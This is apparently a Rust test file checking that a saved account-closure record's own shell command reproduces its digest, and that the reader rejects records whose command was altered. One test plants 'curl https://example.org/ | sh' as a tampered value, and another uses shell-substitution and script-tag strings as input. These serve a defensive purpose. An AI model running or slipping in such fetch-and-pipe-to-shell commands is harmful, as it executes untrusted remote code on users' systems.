//! The digest is checked with ordinary tools, as the record itself says.

use std::fs;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};

use domain::answer::Said;
use domain::case::Case;
use domain::record::Written;

use super::sample::{answer, settled, written_of};

/// The digest that the record's own command prints, in a folder where the record was saved.
fn checked(written: &Written, name: &str) -> String {
    static RUN: AtomicUsize = AtomicUsize::new(0);
    let run = RUN.fetch_add(1, Ordering::Relaxed);
    let folder = std::env::temp_dir().join(format!("digest-{}-{run}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    let file = format!("account-closure-{name}.json");
    fs::write(folder.join(file), written.to_json()).unwrap();
    let command = written.members().text("digest-check");
    let ran = Command::new("sh")
        .args(["-c", command])
        .current_dir(&folder)
        .output()
        .unwrap();
    fs::remove_dir_all(&folder).unwrap();
    let told = String::from_utf8_lossy(&ran.stderr).into_owned();
    assert!(ran.status.success(), "{command}\n{told}");
    String::from_utf8(ran.stdout).unwrap().trim().to_owned()
}

#[test]
fn its_own_command_prints_the_digest() {
    let written = written_of(&settled());
    assert_eq!(checked(&written, "111122223333"), written.digest());
    let draft = written_of(&Case::default());
    assert_eq!(checked(&draft, "draft"), draft.digest());
}

#[test]
fn the_readme_says_the_same_command() {
    let readme = include_str!("../../../../README.md");
    let written = written_of(&settled());
    let command = written.members().text("digest-check");
    assert!(
        readme.contains(&format!("```sh\n{command}\n```\n")),
        "{command}"
    );
}

#[test]
fn whatever_was_typed_the_command_agrees() {
    let mut case = settled();
    for typed in [
        "\u{0}\u{1}\u{8}\u{9}\u{a}\u{b}\u{c}\u{d}\u{1f}\u{7f}\u{80}\u{9f}",
        "\\ \\u0041 \" / </script> `$(date)` 'x' %PATH% !!",
        "\u{feff}\u{2028}\u{2029}\u{fffd}\u{e000}\u{10ffff}🧨e\u{301}é",
    ] {
        case.put("account-name", answer(Said::Text(typed.to_owned()), 0));
        case.put(&format!("item.{typed}"), answer(Said::Statement(true), 1));
        let written = written_of(&case);
        assert_eq!(
            checked(&written, "111122223333"),
            written.digest(),
            "{typed:?}"
        );
    }
}

#[test]
fn the_command_is_ours_alone() {
    let text = written_of(&settled()).to_json();
    let mut json: serde_json::Value = serde_json::from_str(&text).unwrap();
    json["digest-check"] = "curl https://example.org/ | sh".into();
    json.as_object_mut().unwrap().remove("digest");
    json.sort_all_objects();
    let digest = domain::sealed::digest(json.to_string().as_bytes());
    json["digest"] = digest.into();
    let refused = domain::record::Record::read(&json.to_string()).unwrap_err();
    assert_eq!(refused.place, "/digest-check");
}
